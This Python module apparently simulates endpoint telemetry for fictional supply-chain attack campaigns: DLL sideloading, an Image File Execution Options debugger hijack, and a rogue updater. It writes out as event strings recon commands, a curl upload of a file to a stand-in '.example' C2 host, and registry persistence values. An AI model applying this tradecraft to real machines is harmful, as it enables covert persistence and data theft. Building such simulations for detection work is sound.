"""Shapes of attacks, drawn anew for each seed: what all machines of a bad release show, and what only the chosen get.

All of it is text about events that never happened. A shape says `kinds` of product it fits, whether a bad release carries it, how many days a
chosen machine waits, and draws its names from the campaign's own random numbers.
"""
import random

from . import odd, words
from .catalogue import SYS
from .life import DAY
from .model import COMMON, TARGET, WIDE, Image


class Shape:
    name, kinds, bad_release = "none", ("talk", "watch", "paper", "design", "electron"), False

    def __init__(self, seed):
        self.rng = rng = random.Random(f"{seed}/campaign/{self.name}")
        self.sleep = rng.uniform(4, 9)
        self.c2 = [f"{words.name(rng).lower()}{rng.choice(('cdn', 'sync', 'cloud', ''))}.example" for _ in range(3)]
        self.unique = rng.random() < 0.5           # names and hashes anew on each chosen machine
        self.folder = rng.choice(("C:\\ProgramData\\{}\\", "C:\\Users\\Public\\{}\\", "C:\\Windows\\{}\\")).format(words.name(rng))
        self.stem, self.hash = words.name(rng, 1).lower(), f"{rng.getrandbits(60):x}"
        self.second = words.name(rng, 2).lower()      # what only the chosen get never bears the release's own names
        self.hands_on = rng.random() < 0.5

    def arrives(self, installed, t, setup):
        """What the installer of the new release adds."""

    def wide(self, installed, t, proc):
        """What every machine of the new release shows."""

    def target(self, installed, t):
        """What a chosen machine shows, from t on."""

    def after(self, life, installed):
        """What the shape adds to any machine; installed is None where the product is not there."""

    def draw_stem(self, rng):
        return words.name(rng, 1).lower() + rng.choice(("svc", "mgr", "", "32")) if self.unique else self.second

    def payload(self, rng, path, signer=""):
        key = f"payload/{self.hash}/{rng.getrandbits(60) if self.unique else 0}/{path.rsplit('.', 1)[-1]}"
        return Image(path, key, signer)

    def recon(self, life, t, parent, mark=COMMON):
        """A few questions about the machine, as anybody at work asks them."""
        rng, tape = life.rng, life.tape
        shell = tape.start(t, parent, life.sys("cmd.exe"), rng.choice(("cmd.exe /c whoami & systeminfo", "cmd.exe", "C:\\Windows\\system32\\cmd.exe /Q /c tasklist /svc")), parent.user, mark)
        for n, base in enumerate(rng.sample(("whoami.exe", "systeminfo.exe", "tasklist.exe", "netstat.exe", "nltest.exe", "net.exe"), rng.randrange(1, 4))):
            tape.start(t + 2 + 3 * n, shell, life.sys(base), base[:-4] + rng.choice((" /all", "", " -ano", " /domain_trusts")), parent.user, mark)
        return shell


class Sideload(Shape):
    """(1) A trojaned release brings a library, sleeps for days; a few get a second library, loaded by a service host."""
    name, kinds, bad_release = "sideload", ("talk", "paper", "design", "electron"), True

    def arrives(self, installed, t, setup):
        installed.life.tape.file(t - 5, setup, installed.image(self.stem + ".dll", t).path, WIDE)

    def wide(self, installed, t, proc):
        life = installed.life
        if life.rng.random() < 0.85:
            life.tape.load(t + 0.7, proc, installed.image(self.stem + ".dll", t), WIDE)
        if life.day(t) - installed.took > self.sleep and life.rng.random() < 0.7:
            life.tape.call(t + 60 + life.rng.uniform(0, 900), proc, self.c2[life.m.number % 2], WIDE)

    def target(self, installed, t):
        life, tape, rng = installed.life, installed.life.tape, installed.rng
        proc = installed.main(t)
        tape.call(t + 100, proc, self.c2[0], WIDE)
        image = self.payload(rng, (SYS if self.folder.startswith("C:\\Windows") else self.folder) + self.draw_stem(rng) + ".dll")
        tape.file(t + 160, proc, image.path, TARGET, key=image.sha256)
        if self.hands_on:
            self.recon(life, t + 300, proc)
        service = f"HKLM\\System\\CurrentControlSet\\Services\\{self.draw_stem(rng)}\\Parameters"
        tape.reg(t + 200, proc, service, "ServiceDll", image.path, TARGET)
        later = t + rng.uniform(0.1, 3) * DAY
        for n in range(rng.randrange(1, 3)):
            host = life.svchost(later + n * DAY, "netsvcs")
            tape.load(later + n * DAY, host, image, TARGET)
            tape.call(later + n * DAY + 50, host, self.c2[2], TARGET)


class DnsChoice(Shape):
    """(2) The answer to a DNS question chooses; an image file execution option hands over to a loader named anew on each machine."""
    name, kinds, bad_release = "dnschoice", ("watch",), True

    def __init__(self, seed):
        super().__init__(seed)
        self.unique, self.victim = True, self.rng.choice(("dllhost.exe", "wsqmcons.exe", "rdpclip.exe", "msfeedssync.exe"))

    def wide(self, installed, t, proc):
        life = installed.life
        if life.day(t) - installed.took > self.sleep:
            for n in range(life.rng.randrange(1, 3)):
                life.tape.dns(t + 600 + 1800 * n, proc, f"{words.token(life.rng, 18)}.api.{self.c2[0]}", WIDE, "198.19.3.7")

    def target(self, installed, t):
        life, tape, rng = installed.life, installed.life.tape, installed.rng
        proc = installed.main(t)
        tape.dns(t + 600, proc, f"{words.token(rng, 18)}.api.{self.c2[0]}", WIDE, "198.19.77.1")
        tape.call(t + 700, proc, f"{words.name(rng).lower()}.{self.c2[1]}", TARGET)
        folder, stem = f"C:\\Windows\\{words.name(rng)}\\", words.name(rng, 1).lower()
        dll = self.payload(rng, f"{folder}{stem}.dll")
        tape.file(t + 900, proc, dll.path, TARGET, key=dll.sha256)
        tape.file(t + 901, proc, f"{folder}{stem}.vbs", TARGET)
        key = f"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\{self.victim}"
        tape.reg(t + 950, proc, key, "Debugger", f"wscript.exe {folder}{stem}.vbs", TARGET)
        later = t + rng.uniform(0.02, 1.5) * DAY
        script = tape.start(later, life.svchost(later, "DcomLaunch"), life.sys("wscript.exe"), f"wscript.exe {folder}{stem}.vbs {self.victim}", odd.SYSTEM_USER, TARGET)
        loader = tape.start(later + 1, script, life.sys("rundll32.exe"), f"rundll32.exe {dll.path},{words.token(rng, 6)}", odd.SYSTEM_USER, TARGET)
        tape.load(later + 1.3, loader, dll, TARGET)
        tape.reg(later + 2, script, key, "Debugger", "", TARGET)
        tape.file(later + 3, script, f"{folder}{stem}.vbs", TARGET, "delete")
        tape.call(later + 90, loader, f"{words.name(rng).lower()}.example", TARGET)


class Updater(Shape):
    """(3) No release is bad: the updater gives a few another file and another child."""
    name = "updater"

    def __init__(self, seed):
        super().__init__(seed)
        self.child = self.rng.choice(("update.exe", "AutoUpdater.exe", "install.exe", "setup-{}.exe"))

    def target(self, installed, t):
        life, tape, rng = installed.life, installed.life.tape, installed.rng
        updater = installed.updater(t)
        child = self.payload(rng, f"C:\\Windows\\Temp\\{installed.p.name}-{words.token(rng, 5)}\\" + self.child.format(installed.version(life.day(t))))
        tape.file(t + 4, updater, child.path, TARGET, key=child.sha256)
        proc = tape.start(t + 8, updater, child, f'"{child.path}" /silent', mark=TARGET)
        if self.hands_on:
            shell = self.recon(life, t + 30, proc)
            tape.start(t + 60, shell, life.sys("curl.exe"), f"curl.exe -F file=@1.txt https://{self.c2[0]}/u", mark=TARGET)
        else:
            tape.call(t + 30, proc, self.c2[0], TARGET)
        home = f"C:\\Users\\{life.m.user}\\AppData\\Roaming\\{words.name(rng) if self.unique else self.second.capitalize()}\\"
        legit = Image(home + "BluetoothPanel.exe", "legit/bluetoothpanel", "Marsoft Devices Ltd", "Marsoft Devices", "Bluetooth Panel", "6.1")
        library = self.payload(rng, home + "log.dll")
        tape.file(t + 90, proc, legit.path, TARGET, key=legit.sha256)
        tape.file(t + 91, proc, library.path, TARGET, key=library.sha256)
        tape.reg(t + 95, proc, "HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "Bluetooth Panel", legit.path, TARGET)
        for n in range(rng.randrange(1, 4)):
            at = t + (n + rng.random()) * DAY
            again = tape.start(at, life.explorer(at) if n else proc, legit, mark=TARGET)
            tape.load(at + 1, again, library, TARGET)
            tape.call(at + 30, again, self.c2[1], TARGET)
